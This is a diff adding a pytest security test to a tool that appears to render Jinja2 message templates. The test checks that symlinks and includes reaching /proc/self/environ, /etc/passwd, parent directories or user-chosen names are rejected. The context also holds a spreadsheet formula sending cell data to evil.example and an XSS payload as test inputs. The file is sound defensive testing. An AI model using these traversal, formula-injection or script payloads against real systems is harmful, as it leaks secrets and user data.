@@ -9,6 +9,9 @@ import json
 import subprocess
 from pathlib import Path
 
+import pytest
+from jinja2 import TemplateNotFound
+
 FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Click me")'
 SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
 PLAYBOOK = """version: 1
@@ -93,3 +96,35 @@ def test_public_text_is_harmless_in_spreadsheets_html_and_call_lists(huitou_bin:
     with open(root / ".huitou" / "quarantine" / "orders.csv", encoding="utf-8", newline="") as handle:
         (rejected,) = list(csv.DictReader(handle))
     assert rejected["customer_id"] == "'=1+2" and rejected["reason"] == "negative_amount"
+
+
+def test_templates_read_only_files_inside_templates(huitou_bin: str, tmp_path: Path) -> None:
+    """Links out of templates/, names chosen when rendering, '..' and self-inclusion are
+    validate errors, and the planner's loader does not follow them either."""
+    root = shop(tmp_path / "shop")
+    sms = root / "templates" / "zh-CN" / "phone"
+    (sms / "environ.j2").symlink_to("/proc/self/environ")
+    (root / "templates" / "zh-CN" / "updir").symlink_to(root)
+    cases = {
+        "leak.j2": "{% include 'phone/environ.j2' %}",
+        "config.j2": "{% include 'updir/huitou.yaml' %}",
+        "chosen.j2": "{% include customer.name %}",
+        "parent.j2": "{% include '../../huitou.yaml' %}",
+        "absolute.j2": "{% include '/etc/passwd' %}",
+        "self.j2": "{% include 'phone/self.j2' %}",
+    }
+    for name, text in cases.items():
+        (sms / name).write_text(text, encoding="utf-8")
+    done = subprocess.run([huitou_bin, "validate", "--format", "json"], cwd=root, capture_output=True, text=True)
+    found = {(Path(d["file"]).name, d["code"]) for d in json.loads(done.stdout)}
+    assert done.returncode == 1
+    assert {(name, "HT406") for name in cases} <= found, sorted(found)
+    assert ("environ.j2", "HT406") in found
+    # the loader itself refuses them: a rule using the leaking template renders nothing of the file
+    from huitou.templates import TemplateLoader, environment, template_file
+
+    env = environment(TemplateLoader([str(root / "templates" / "zh-CN")]))
+    for name in ("phone/environ.j2", "updir/huitou.yaml", "../huitou.yaml", "/etc/passwd"):
+        assert template_file(root / "templates" / "zh-CN", name) is None
+    with pytest.raises(TemplateNotFound):
+        env.get_template("phone/leak.j2").render()
